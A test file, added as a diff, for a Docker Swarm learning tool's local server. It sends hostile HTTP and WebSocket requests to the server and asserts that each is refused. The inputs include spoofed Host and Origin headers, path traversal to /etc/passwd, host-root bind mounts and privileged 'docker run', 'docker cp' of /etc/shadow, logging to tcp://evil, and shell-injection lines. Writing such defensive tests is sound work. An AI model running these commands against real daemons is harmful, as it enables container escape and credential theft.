@@ -1,0 +1,610 @@
+// The local server, started for real on a random port with the simulator as its backend
+// (wrapped in a spy that records every Engine call): every row of the hostile-request
+// table of local-mode-security.md sent as a real HTTP / WebSocket request, asserting the
+// refusal and that no Engine call was made; then the happy path of a lesson.
+import { execFileSync } from 'node:child_process';
+import { existsSync, mkdirSync, mkdtempSync, readdirSync, readFileSync, writeFileSync } from 'node:fs';
+import { connect } from 'node:net';
+import { networkInterfaces, tmpdir } from 'node:os';
+import { join } from 'node:path';
+import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, it } from 'vitest';
+import { WebSocket } from 'ws';
+import type { CliClock } from '../engine/cli/context.js';
+import type { EngineCall } from '../engine/node/server/call-log.js';
+import { recordCalls } from '../engine/node/server/call-log.js';
+import type { LocalBackend } from '../engine/node/server/backend.js';
+import type { LocalServer } from '../engine/node/server/server.js';
+import { startLocalServer } from '../engine/node/server/server.js';
+import type { ServerFrame } from '../engine/node/server/protocol.js';
+import { Simulator } from '../engine/sim/simulator.js';
+
+const SPEED = 40; // simulated seconds per real second: a rolling update takes ~1 s
+
+/** A backend over the simulator whose clock follows the wall clock SPEED times faster. */
+function simBackend(sim: Simulator, calls: EngineCall[], kind: LocalBackend['kind']): LocalBackend {
+  const clock: CliClock = {
+    now: () => sim.clock.epochNow(),
+    sleep: (ms, signal) =>
+      new Promise<void>((resolve, reject) => {
+        if (signal?.aborted) return reject(Object.assign(new Error('aborted'), { name: 'AbortError' }));
+        const id = sim.clock.after(ms, () => resolve());
+        signal?.addEventListener('abort', () => {
+          sim.clock.cancel(id);
+          reject(Object.assign(new Error('aborted'), { name: 'AbortError' }));
+        }, { once: true });
+      }),
+  };
+  return {
+    kind,
+    name: 'manager1',
+    startNode: 'manager1',
+    hostnames: () => sim.hostnames(),
+    api: (h) => (sim.hostnames().includes(h) ? recordCalls(sim.api(h), calls) : undefined),
+    clock,
+  };
+}
+
+let sim: Simulator;
+let calls: EngineCall[];
+let server: LocalServer;
+let token: string;
+let port: number;
+let driver: ReturnType<typeof setInterval>;
+const logs: string[] = [];
+/** Everything any response carried (headers and bodies), for L1. */
+const seen: string[] = [];
+let siteDir: string;
+
+beforeAll(async () => {
+  sim = new Simulator({ seed: 5, startEpochMs: Date.now() });
+  calls = [];
+  driver = setInterval(() => sim.clock.advance(20 * SPEED), 20);
+  siteDir = mkdtempSync(join(tmpdir(), 'swarm-lab-site-'));
+  writeFileSync(join(siteDir, 'index.html'), '<!doctype html><title>Swarm Lab</title>');
+  mkdirSync(join(siteDir, 'lessons'));
+  writeFileSync(join(siteDir, 'lessons', 'index.html'), '<p>lessons</p>');
+  writeFileSync(join(tmpdir(), 'swarm-lab-secret.txt'), 'SECRET-OUTSIDE-SITE');
+  server = await startLocalServer({ siteDir, backend: simBackend(sim, calls, 'sandbox'), log: (l) => logs.push(l), authTimeoutMs: 400 });
+  port = server.port;
+  token = /#t=([A-Za-z0-9_-]+)$/.exec(server.url)![1]!;
+});
+
+afterAll(async () => {
+  clearInterval(driver);
+  await server?.close();
+});
+
+const opened: Terminal[] = [];
+
+beforeEach(() => {
+  calls.length = 0;
+});
+
+afterEach(async () => {
+  // A failed test must not leave its terminal holding the one terminal slot.
+  for (const t of opened.splice(0)) await t.close();
+});
+
+const ORIGIN = (): string => `http://127.0.0.1:${port}`;
+
+interface RawResponse {
+  status: number;
+  head: string;
+  body: string;
+}
+
+/** Sends bytes as they are (malformed requests included) and reads until the server closes. */
+function raw(text: string, p = port, host = '127.0.0.1'): Promise<RawResponse> {
+  return new Promise((resolve, reject) => {
+    const s = connect({ port: p, host });
+    const chunks: Buffer[] = [];
+    s.on('data', (c: Buffer) => chunks.push(c));
+    s.on('error', reject);
+    s.on('close', () => {
+      const all = Buffer.concat(chunks).toString('utf8');
+      seen.push(all);
+      const [head = '', body = ''] = all.split('\r\n\r\n', 2);
+      resolve({ status: Number(/^HTTP\/1\.[01] (\d{3})/.exec(head)?.[1] ?? 0), head, body });
+    });
+    // Not end(): the server would see the half-close and drop a response still being read from disk.
+    s.write(text);
+  });
+}
+
+function request(method: string, path: string, headers: Record<string, string | undefined> = {}, body = ''): Promise<RawResponse> {
+  const h: Record<string, string | undefined> = {
+    Host: `127.0.0.1:${port}`,
+    Origin: ORIGIN(),
+    Authorization: `Bearer ${token}`,
+    'Content-Type': 'application/json',
+    ...headers,
+  };
+  const lines = Object.entries(h)
+    .filter(([, v]) => v !== undefined)
+    .map(([k, v]) => `${k}: ${v}\r\n`)
+    .join('');
+  const len = body !== '' || method === 'POST' ? `Content-Length: ${Buffer.byteLength(body)}\r\n` : '';
+  return raw(`${method} ${path} HTTP/1.1\r\n${lines}${len}Connection: close\r\n\r\n${body}`);
+}
+
+/** A WebSocket upgrade's outcome: 101 or the refusal's status. */
+function upgrade(headers: Record<string, string>, origin: string | null = ORIGIN()): Promise<{ status: number; ws?: WebSocket }> {
+  return new Promise((resolve) => {
+    // null: no Origin header at all (the ws client sends none unless told to).
+    const ws = new WebSocket(`ws://127.0.0.1:${port}/ws`, { headers, ...(origin !== null ? { origin } : {}) });
+    ws.on('unexpected-response', (_req, res) => {
+      seen.push(JSON.stringify(res.headers));
+      resolve({ status: res.statusCode ?? 0 });
+      ws.terminate();
+    });
+    ws.on('open', () => resolve({ status: 101, ws }));
+    ws.on('error', () => resolve({ status: 0 }));
+  });
+}
+
+/** An authenticated terminal: send frames, collect what comes back. */
+class Terminal {
+  frames: ServerFrame[] = [];
+  closed: { code: number } | undefined;
+  private waiters: (() => void)[] = [];
+  private nextId = 1;
+
+  constructor(readonly ws: WebSocket) {
+    ws.on('message', (d) => {
+      const text = d.toString();
+      seen.push(text);
+      this.frames.push(JSON.parse(text) as ServerFrame);
+      this.wake();
+    });
+    ws.on('close', (code) => {
+      this.closed = { code };
+      this.wake();
+    });
+  }
+
+  private wake(): void {
+    for (const w of this.waiters.splice(0)) w();
+  }
+
+  async until(pred: () => boolean, ms = 15_000): Promise<void> {
+    const end = Date.now() + ms;
+    while (!pred()) {
+      if (Date.now() > end) throw new Error(`timed out; frames: ${JSON.stringify(this.frames.slice(-5))}`);
+      await new Promise<void>((r) => {
+        this.waiters.push(r);
+        setTimeout(r, 200);
+      });
+    }
+  }
+
+  send(frame: unknown): void {
+    this.ws.send(JSON.stringify(frame));
+  }
+
+  /** Runs a line; resolves with its output and exit code. `onOut` sees each out frame. */
+  async run(line: string, onOut?: (text: string) => void): Promise<{ out: string; code: number; frames: number }> {
+    const id = this.nextId++;
+    const start = this.frames.length;
+    let seenOut = 0;
+    this.send({ t: 'run', id, line, cols: 120 });
+    await this.until(() => {
+      const mine = this.frames.slice(start).filter((f) => 'id' in f && f.id === id);
+      for (const f of mine.slice(seenOut)) if (f.t === 'out') onOut?.(f.text);
+      seenOut = mine.length;
+      return mine.some((f) => f.t === 'done' || f.t === 'error');
+    });
+    const mine = this.frames.slice(start).filter((f) => 'id' in f && f.id === id);
+    const done = mine.find((f) => f.t === 'done');
+    return {
+      out: mine.map((f) => (f.t === 'out' ? f.text : f.t === 'error' ? f.message : '')).join(''),
+      code: done?.t === 'done' ? done.code : -1,
+      frames: mine.filter((f) => f.t === 'out').length,
+    };
+  }
+
+  close(): Promise<void> {
+    if (this.closed) return Promise.resolve();
+    this.ws.close();
+    return this.until(() => this.closed !== undefined);
+  }
+}
+
+async function terminal(): Promise<Terminal> {
+  const { status, ws } = await upgrade({});
+  expect(status).toBe(101);
+  const t = new Terminal(ws!);
+  opened.push(t);
+  t.send({ t: 'auth', token });
+  await t.until(() => t.frames.some((f) => f.t === 'ready'));
+  return t;
+}
+
+/** Processes whose parent is this test process (none may ever be spawned by a terminal line). */
+function childPids(): string[] {
+  return readdirSync('/proc')
+    .filter((d) => /^\d+$/.test(d))
+    .filter((d) => {
+      try {
+        const stat = readFileSync(`/proc/${d}/stat`, 'utf8');
+        return stat.slice(stat.lastIndexOf(')') + 2).split(' ')[1] === String(process.pid);
+      } catch {
+        return false;
+      }
+    });
+}
+
+describe('transport: Host, listener, token (H1-H3, T1-T2)', () => {
+  it('H1: a foreign Host gets 403 and a body that says nothing', async () => {
+    const r = await request('GET', '/', { Host: `evil.example:${port}` });
+    expect(r.status).toBe(403);
+    expect(r.body).not.toMatch(/manager1|redis|Swarm Lab/);
+    expect(calls).toEqual([]);
+  });
+
+  it.each(['localhost.evil.example', '127.0.0.1.nip.io', '0.0.0.0', '127.0.0.2', '[::ffff:127.0.0.1]'])('H2 Host %s:PORT → 403 (HTTP and WS)', async (h) => {
+    expect((await request('GET', '/', { Host: `${h}:${port}` })).status).toBe(403);
+    expect((await upgrade({ Host: `${h}:${port}` })).status).toBe(403);
+    expect(calls).toEqual([]);
+  });
+
+  it('H2: wrong port, no Host (HTTP/1.0), two Host headers → 403/400; the right Host serves the page', async () => {
+    expect((await request('GET', '/', { Host: `127.0.0.1:${port + 1}` })).status).toBe(403);
+    expect((await raw('GET / HTTP/1.0\r\n\r\n')).status).toBe(403);
+    const two = await raw(`GET / HTTP/1.1\r\nHost: 127.0.0.1:${port}\r\nHost: evil.example\r\nConnection: close\r\n\r\n`);
+    expect([400, 403]).toContain(two.status);
+    const ok = await request('GET', '/', { Host: `localhost:${port}` });
+    expect(ok.status).toBe(200);
+    expect(ok.body).toContain('<title>Swarm Lab</title>');
+    for (const h of ['X-Frame-Options: DENY', "Content-Security-Policy: frame-ancestors 'none'", 'X-Content-Type-Options: nosniff', 'Cache-Control: no-store']) {
+      expect(ok.head).toContain(h);
+      expect(two.head + (await request('GET', '/', { Host: 'evil.example' })).head).toContain(h.split(':')[0]!);
+    }
+  });
+
+  it('H3: the listener is 127.0.0.1 only; a non-loopback address is refused; other hosts cannot be configured', async () => {
+    const ss = execFileSync('ss', ['-ltnH', `sport = :${port}`], { encoding: 'utf8' });
+    expect(ss).toContain(`127.0.0.1:${port}`);
+    expect(ss).not.toMatch(/(0\.0\.0\.0|\*|\[::\]):\d+\s/);
+    const external = Object.values(networkInterfaces())
+      .flat()
+      .find((a) => a && a.family === 'IPv4' && !a.internal);
+    if (external) {
+      await expect(raw(`GET / HTTP/1.1\r\nHost: 127.0.0.1:${port}\r\n\r\n`, port, external.address)).rejects.toMatchObject({ code: 'ECONNREFUSED' });
+    } else {
+      console.warn('H3: this machine has no non-loopback IPv4 address; checked the listener with ss only');
+    }
+    await expect(startLocalServer({ host: '0.0.0.0', siteDir, backend: simBackend(sim, calls, 'sandbox') })).rejects.toThrow(/loopback only/);
+  });
+
+  it('T1: API calls without the right token are 401, whatever the token looks like, and the server keeps going', async () => {
+    const other = await startLocalServer({ siteDir, backend: simBackend(sim, calls, 'sandbox') });
+    const previousLaunch = /#t=(.+)$/.exec(other.url)![1]!;
+    await other.close();
+    const bad: Record<string, string | undefined>[] = [
+      { Authorization: undefined },
+      { Authorization: `Bearer ${token.slice(0, -1)}${token.endsWith('A') ? 'B' : 'A'}` },
+      { Authorization: `Bearer ${token}x` },
+      { Authorization: 'Bearer ' + 'x'.repeat(5000) },
+      { Authorization: `Bearer ${previousLaunch}` },
+      { Authorization: `token ${token}` },
+      { Cookie: `t=${token}`, Authorization: undefined },
+    ];
+    for (const h of bad) {
+      expect((await request('GET', '/api/backend', h)).status, JSON.stringify(h)).toBe(401);
+      expect((await request('POST', '/api/run', h, JSON.stringify({ line: 'docker node ls' }))).status).toBe(401);
+    }
+    expect((await request('GET', `/api/backend?token=${token}`, { Authorization: undefined })).status).toBe(401);
+    expect(calls).toEqual([]);
+    const ok = await request('GET', '/api/backend');
+    expect(ok.status).toBe(200);
+    expect(JSON.parse(ok.body)).toMatchObject({ kind: 'sandbox', name: 'manager1' });
+  });
+
+  it('T2: a socket whose first frame is not a valid auth frame, or that stays silent, is closed before any command runs', async () => {
+    for (const first of [{ t: 'run', id: 1, line: 'docker node ls', cols: 80 }, { t: 'auth', token: 'nope' }, { t: 'auth', token: `${token}x` }, 'not json']) {
+      const { ws } = await upgrade({});
+      const t = new Terminal(ws!);
+      ws!.send(typeof first === 'string' ? first : JSON.stringify(first));
+      ws!.send(JSON.stringify({ t: 'run', id: 2, line: 'docker service create --name x redis:7.4.0', cols: 80 }));
+      await t.until(() => t.closed !== undefined);
+      expect(t.closed!.code).toBe(4401);
+      expect(t.frames).toEqual([]);
+    }
+    const { ws } = await upgrade({});
+    const silent = new Terminal(ws!);
+    await silent.until(() => silent.closed !== undefined, 3000);
+    expect(silent.closed!.code).toBe(4401);
+    expect(calls).toEqual([]);
+  });
+});
+
+describe('Origin, content type, sizes, paths (O1-O3, C1-C2, P1)', () => {
+  const BAD_ORIGINS = (): string[] => [
+    'https://evil.example',
+    'null',
+    `http://127.0.0.1:${port + 1}`,
+    `https://127.0.0.1:${port}`,
+    `http://localhost:${port}.evil.example`,
+  ];
+
+  it('O1/O2: a wrong or missing Origin is 403 on POST and on the WS upgrade (before 101)', async () => {
+    for (const o of BAD_ORIGINS()) {
+      expect((await request('POST', '/api/run', { Origin: o }, JSON.stringify({ line: 'docker node ls' }))).status, o).toBe(403);
+      const u = await upgrade({}, o);
+      u.ws?.terminate();
+      expect(u.status, `WS ${o}`).toBe(403);
+    }
+    expect((await request('POST', '/api/run', { Origin: undefined }, JSON.stringify({ line: 'docker node ls' }))).status).toBe(403);
+    expect((await upgrade({}, null)).status).toBe(403);
+    expect(calls).toEqual([]);
+  });
+
+  it('O3: a preflight from an evil origin gets no Access-Control-Allow-Origin; never a wildcard', async () => {
+    const r = await request('OPTIONS', '/api/run', { Origin: 'https://evil.example', 'Access-Control-Request-Method': 'POST' });
+    expect(r.status).toBe(403);
+    expect(r.head.toLowerCase()).not.toContain('access-control-allow-origin');
+    const own = await request('OPTIONS', '/api/run', { 'Access-Control-Request-Method': 'POST' });
+    expect(own.head).toContain(`Access-Control-Allow-Origin: ${ORIGIN()}`);
+    expect(own.head).not.toContain('Access-Control-Allow-Origin: *');
+  });
+
+  it.each(['text/plain', 'application/x-www-form-urlencoded', 'multipart/form-data; boundary=x', 'application/json-seq'])('C1 %s → 415', async (ct) => {
+    const r = await request('POST', '/api/run', { 'Content-Type': ct }, JSON.stringify({ line: 'docker service create --name x redis:7.4.0' }));
+    expect(r.status).toBe(415);
+    expect(calls).toEqual([]);
+  });
+
+  it('C2: a 1 MB body and a 100 KB command line are 413 (HTTP); a 100 KB frame closes the socket', async () => {
+    expect((await request('POST', '/api/run', {}, JSON.stringify({ line: 'x'.repeat(1024 * 1024) }))).status).toBe(413);
+    expect((await request('POST', '/api/run', {}, JSON.stringify({ line: `docker service ls ${'x'.repeat(100 * 1024)}` }))).status).toBe(413);
+    expect((await request('POST', '/api/run', {}, JSON.stringify({ line: `docker service ls ${'x'.repeat(5000)}` }))).status).toBe(413);
+    const t = await terminal();
+    t.send({ t: 'run', id: 1, line: `docker service ls ${'x'.repeat(100 * 1024)}`, cols: 80 });
+    await t.until(() => t.closed !== undefined);
+    expect(t.closed!.code).toBe(1009);
+    expect(calls).toEqual([]);
+  });
+
+  it('P1: no pass-through to the Engine API, whatever the path looks like', async () => {
+    const paths = [
+      '/containers/create',
+      '/v1.41/containers/create',
+      '//containers/create',
+      '/v1.41/services/../containers/create',
+      '/v1.41/services/%2e%2e%2fcontainers/create',
+      '/%2e%2e%2f%2e%2e%2fetc/passwd',
+      '/..%2f..%2fswarm-lab-secret.txt',
+      '/V1.41/SERVICES/create',
+      '/v1.41/x/services/create',
+      '/v1.41/services/create/',
+      '/v1.41/services/create%00',
+      '/api/run/../../containers/create',
+      '/api/services/create',
+    ];
+    const spec = JSON.stringify({ Name: 'x', TaskTemplate: { ContainerSpec: { Image: 'redis:7.4.0', Mounts: [{ Type: 'bind', Source: '/', Target: '/host' }] } } });
+    for (const p of paths) {
+      const post = await request('POST', p, {}, spec);
+      expect([403, 404, 405], `POST ${p}`).toContain(post.status);
+      const get = await request('GET', p);
+      expect([403, 404, 405], `GET ${p}`).toContain(get.status);
+      expect(get.body).not.toContain('SECRET-OUTSIDE-SITE');
+    }
+    const asBody = await request('POST', '/api/run', {}, JSON.stringify({ path: '/containers/create', body: spec }));
+    expect(asBody.status).toBe(400);
+    expect(calls).toEqual([]);
+    expect(await sim.api('manager1').serviceList()).toEqual([]);
+  });
+});
+
+describe('the terminal: command table and guard (S1-S8, N1-N2, X1-X2, R1)', () => {
+  const NA = /not available in local mode/;
+
+  async function refusedWithoutCalls(t: Terminal, lines: string[]): Promise<void> {
+    for (const line of lines) {
+      calls.length = 0;
+      const r = await t.run(line);
+      expect(r.out, line).toMatch(NA);
+      expect(r.code, line).not.toBe(0);
+      expect(calls.map((c) => c.method), line).toEqual([]);
+    }
+  }
+
+  it('S1-S6 as typed lines: refused, no Engine call, no service afterwards', async () => {
+    const t = await terminal();
+    await refusedWithoutCalls(t, [
+      'docker service create --mount type=bind,source=/,target=/host --name x redis:7.4.0',
+      'docker service create --mount type=volume,source=v,target=/v --name x redis:7.4.0',
+      'docker service create --mount type=tmpfs,target=/t --name x redis:7.4.0',
+      'docker service create --cap-add ALL --name x redis:7.4.0',
+      'docker service create --cap-add CAP_SYS_ADMIN --name x redis:7.4.0',
+      'docker service create --sysctl net.ipv4.ip_forward=1 --name x redis:7.4.0',
+      'docker service create --user 0 --name x redis:7.4.0',
+      'docker service create --init --name x redis:7.4.0',
+      'docker service create --env LD_PRELOAD=/x.so --name x redis:7.4.0',
+      'docker service create --health-cmd true --name x redis:7.4.0',
+      'docker service create --log-driver syslog --log-opt syslog-address=tcp://evil --name x redis:7.4.0',
+      'docker service create --secret s --name x redis:7.4.0',
+      'docker service create --config c --name x redis:7.4.0',
+      'docker service create --network host --name x redis:7.4.0',
+      // These pass the command table and are refused by the guard (the CLI's registry
+      // lookup included): the spy sits below the guard, so still no Engine call.
+      'docker service create --name x alpine',
+      'docker service create --name x attacker.io/x:1',
+      `docker service create --name x redis:7.4.0@sha256:${'a'.repeat(64)}`,
+      'docker service create --name x redis',
+      'docker service create --replicas 100000 --name x redis:7.4.0',
+      'docker service create --mode global --name x redis:7.4.0',
+      'docker service create --update-delay 1h --name x redis:7.4.0',
+      'docker service create -p published=8080,target=6379,mode=host --name x redis:7.4.0',
+      'docker service create -p 22:6379 --name x redis:7.4.0',
+      'docker service create -p 9000:6379 --name x redis:7.4.0',
+    ]);
+    expect(await sim.api('manager1').serviceList()).toEqual([]);
+    await t.close();
+  });
+
+  it('X1 and N1/N2 lines are "not available in local mode" with no Engine call', async () => {
+    const t = await terminal();
+    await refusedWithoutCalls(t, [
+      'docker run -v /:/host --privileged redis:7.4.0',
+      'docker exec -it abc sh',
+      'docker cp abc:/etc/shadow .',
+      'docker build .',
+      'docker pull x/y',
+      'docker load -i x.tar',
+      'docker plugin install evil/plugin',
+      'docker swarm leave --force',
+      'docker swarm init --force-new-cluster',
+      'docker swarm update --autolock',
+      'docker secret create s -',
+      'docker network create -d host x',
+      'docker volume create --opt device=/ x',
+      'docker -H tcp://1.2.3.4 ps',
+      'docker --config /tmp ps',
+      'docker context use x',
+      'docker system prune -af',
+      'docker node update --role manager worker1',
+      'docker node rm worker2',
+      'docker node promote worker1',
+      'docker swarm join-token manager',
+    ]);
+    const manager = (await sim.api('manager1').swarmInspect()).JoinTokens.Manager;
+    const worker = await t.run('docker swarm join-token worker');
+    expect(worker.code).toBe(0);
+    expect(worker.out).toContain((await sim.api('manager1').swarmInspect()).JoinTokens.Worker);
+    expect(worker.out).not.toContain(manager);
+    const unknown = await t.run('docker node update --availability drain nosuchnode');
+    expect(unknown.code).toBe(1);
+    expect(calls.map((c) => c.method)).not.toContain('nodeUpdate');
+    await t.close();
+  });
+
+  it('X2: shell metacharacters are refused or literal, and no process is ever spawned', async () => {
+    const t = await terminal();
+    const canary = join(tmpdir(), `swarm-lab-canary-${process.pid}`);
+    const before = childPids();
+    for (const line of [
+      `docker service ls; touch ${canary}`,
+      `docker service ls && touch ${canary}`,
+      `echo $(touch ${canary})`,
+      `echo \`touch ${canary}\``,
+      `docker service ls | sh`,
+      `docker service ls\ntouch ${canary}`,
+      'docker service create —replicas 3 --name x redis:7.4.0',
+      `touch ${canary}`,
+      `/bin/sh -c 'touch ${canary}'`,
+    ]) {
+      calls.length = 0;
+      const r = await t.run(line);
+      expect(r.code, line).not.toBe(0);
+      expect(calls, line).toEqual([]);
+    }
+    expect(existsSync(canary)).toBe(false);
+    expect(childPids()).toEqual(before);
+    await t.close();
+  });
+
+  it('R1: 1000 commands in a second are rate-limited; a second terminal socket is refused', async () => {
+    const t = await terminal();
+    expect((await upgrade({})).status).toBe(409);
+    const start = t.frames.length;
+    for (let i = 0; i < 1000; i++) t.send({ t: 'run', id: 10_000 + i, line: 'true', cols: 80 });
+    await t.until(() => t.frames.slice(start).filter((f) => f.t === 'done' || f.t === 'error').length >= 1000, 10_000);
+    const after = t.frames.slice(start);
+    const limited = after.filter((f) => f.t === 'error' && /rate limited/.test(f.message)).length;
+    expect(limited).toBeGreaterThan(800);
+    expect(after.filter((f) => f.t === 'done').length).toBeLessThanOrEqual(100);
+    await t.close();
+    await new Promise((r) => setTimeout(r, 2500)); // let the buckets refill for the next tests
+  });
+});
+
+describe('the happy path, scoping and the token (S7, S8, L1)', () => {
+  it('auth, service create streamed and converging, service ps, Ctrl-C, lesson check', async () => {
+    const t = await terminal();
+    expect(t.frames[0]).toMatchObject({ t: 'ready', prompt: 'docker@manager1:~$ ', hostnames: ['manager1', 'worker1', 'worker2'], backend: { kind: 'sandbox', name: 'manager1' } });
+    const chunks: string[] = [];
+    const created = await t.run('docker service create --replicas 3 --name redis --update-delay 10s redis:7.4.0', (s) => chunks.push(s));
+    expect(created.code).toBe(0);
+    expect(created.out).toMatch(/verify: Service \S+ converged/);
+    // Local mode never asks a registry: the CLI's own warning, as docker prints it.
+    expect(created.out).toContain('image redis:7.4.0 could not be accessed on a registry to record');
+    expect(created.frames).toBeGreaterThan(1);
+    expect(calls.map((c) => c.method)).toContain('serviceCreate');
+    expect(calls.map((c) => c.method)).not.toContain('distributionInspect');
+    const ps = await t.run('docker service ps redis');
+    expect(ps.code).toBe(0);
+    expect(ps.out.split('\n').filter((l) => /redis\.\d+\s+redis:7\.4\.0\s+\S+\s+Running\s+Running/.test(l))).toHaveLength(3);
+
+    // S7 through the terminal: the sneaked field is refused and the version does not move.
+    const before = (await sim.api('manager1').serviceInspect('redis')).Version.Index;
+    calls.length = 0;
+    for (const line of ['docker service update --mount-add type=bind,source=/,target=/host redis', 'docker service update --cap-add ALL redis', 'docker service update --image alpine redis']) {
+      const r = await t.run(line);
+      expect(r.out, line).toMatch(/not available in local mode/);
+    }
+    expect(calls.map((c) => c.method).filter((m) => m === 'serviceUpdate')).toEqual([]);
+    expect((await sim.api('manager1').serviceInspect('redis')).Version.Index).toBe(before);
+
+    // Ctrl-C during a rolling update: the command stops waiting, the update carries on.
+    let interrupted = false;
+    const update = await t.run('docker service update --image redis:7.4.1 redis', () => {
+      if (!interrupted) {
+        interrupted = true;
+        t.send({ t: 'interrupt' });
+      }
+    });
+    expect(interrupted).toBe(true);
+    expect(update.out).toContain('Operation continuing in background.');
+    expect(update.code).toBe(0);
+
+    t.send({ t: 'check', id: 'c1', lessonId: 'deploy-service' });
+    await t.until(() => t.frames.some((f) => f.t === 'result' && f.id === 'c1'));
+    const result = t.frames.find((f) => f.t === 'result' && f.id === 'c1');
+    expect(Array.isArray(result?.t === 'result' ? result.value : undefined)).toBe(true);
+    await t.close();
+  });
+
+  it('S8: on the learner\'s own daemon only Swarm Lab\'s services may change', async () => {
+    const own = await sim.api('manager1').serviceCreate({
+      Name: 'mine',
+      Labels: {},
+      TaskTemplate: { ContainerSpec: { Image: 'redis:7.4.0' }, ForceUpdate: 0 },
+      Mode: { Replicated: { Replicas: 1 } },
+    });
+    const version = (await sim.api('manager1').serviceInspect(own.ID)).Version.Index;
+    const scoped = await startLocalServer({ siteDir, backend: simBackend(sim, calls, 'docker'), log: (l) => logs.push(l) });
+    const scopedToken = /#t=(.+)$/.exec(scoped.url)![1]!;
+    try {
+      const run = async (line: string): Promise<{ code: number; output: string }> => {
+        const body = JSON.stringify({ line });
+        const r = await raw(
+          `POST /api/run HTTP/1.1\r\nHost: 127.0.0.1:${scoped.port}\r\nOrigin: http://127.0.0.1:${scoped.port}\r\nAuthorization: Bearer ${scopedToken}\r\nContent-Type: application/json\r\nContent-Length: ${body.length}\r\nConnection: close\r\n\r\n${body}`,
+          scoped.port,
+        );
+        expect(r.status).toBe(200);
+        return JSON.parse(r.body) as { code: number; output: string };
+      };
+      calls.length = 0;
+      for (const line of ['docker service rm mine', 'docker service update --replicas 2 mine', 'docker service logs mine', 'docker service scale mine=3']) {
+        const r = await run(line);
+        expect(r.output, line).toMatch(/not available in local mode/);
+        expect(r.code).not.toBe(0);
+      }
+      expect(calls.map((c) => c.method).filter((m) => ['serviceUpdate', 'serviceDelete', 'serviceLogs'].includes(m))).toEqual([]);
+      expect((await sim.api('manager1').serviceInspect(own.ID)).Version.Index).toBe(version);
+      expect((await run('docker service ls')).output).not.toContain('mine');
+      expect((await run('docker swarm join-token worker')).output).toMatch(/not available in local mode/);
+      const published = await run('docker service create -d -p 8080:6379 --name web redis:7.4.0');
+      expect(published.output).toMatch(/not available in local mode/);
+    } finally {
+      await scoped.close();
+    }
+  });
+
+  it('L1: the token appears in no response, frame or log line', () => {
+    expect(seen.length).toBeGreaterThan(50);
+    for (const s of [...seen, ...logs]) expect(s.includes(token)).toBe(false);
+    expect(logs.some((l) => /refused/.test(l))).toBe(true);
+  });
+});
